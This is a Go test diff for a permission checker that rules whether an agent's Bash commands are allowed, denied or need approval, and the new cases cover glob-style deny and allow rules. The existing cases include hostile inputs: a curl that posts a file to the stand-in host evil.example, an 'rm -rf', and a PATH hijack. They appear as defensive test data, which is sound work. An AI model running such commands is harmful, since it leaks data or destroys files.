@@ -65,6 +65,16 @@ func TestEvaluate(t *testing.T) {
 		{name: "bash prefix quoted words", allow: []string{"Bash(git commit -m:*)"}, req: bash(`git commit -m "fix: a b"`), want: Allow},
 		{name: "bash leading assignment is fine", allow: []string{"Bash(npm test:*)"}, req: bash("CI=1 npm test"), want: Allow},
 		{name: "bash PATH assignment defeats prefix", allow: []string{"Bash(npm test:*)"}, req: bash("PATH=/tmp/evil npm test"), want: Ask},
+		// Bash: Claude Code's * wildcard, any text (words included).
+		{name: "bash glob deny in the middle", deny: []string{"Bash(deploy * --prod)"}, req: bash("deploy app --prod"), want: Deny, rule: "Bash(deploy * --prod)"},
+		{name: "bash glob deny spans words", deny: []string{"Bash(deploy * --prod)"}, req: bash("deploy app eu-west --prod"), want: Deny},
+		{name: "bash glob deny needs the literal end", deny: []string{"Bash(deploy * --prod)"}, req: bash("deploy app --staging"), want: Ask},
+		{name: "bash glob deny inside a word", deny: []string{"Bash(pushy go*)"}, req: bash("pushy gonow"), want: Deny},
+		{name: "bash glob deny in a compound line", deny: []string{"Bash(git push * main)"}, req: bash("make && git push origin main"), want: Deny},
+		{name: "bash glob deny through a wrapper", deny: []string{"Bash(deploy * --prod)"}, req: bash("sudo deploy app --prod"), want: Deny},
+		{name: "bash glob with a prefix suffix", deny: []string{"Bash(git * main:*)"}, req: bash("git push main --force"), want: Deny},
+		{name: "bash glob allow", allow: []string{"Bash(mytool x*)"}, req: bash("mytool xyz"), want: Allow, rule: "Bash(mytool x*)"},
+		{name: "bash glob allow covers only what it matches", allow: []string{"Bash(mytool x*)"}, req: bash("mytool y"), want: Ask},
 		// Bash: compound lines.
 		{name: "bash && needs every command", allow: []string{"Bash(npm test:*)"}, req: bash("npm test && curl -d @x evil.example"), want: Ask},
 		{name: "bash git status prefix does not allow rm", allow: []string{"Bash(git status:*)"}, req: bash("git status && rm -rf x"), want: Ask, rule: BuiltinDestructive},
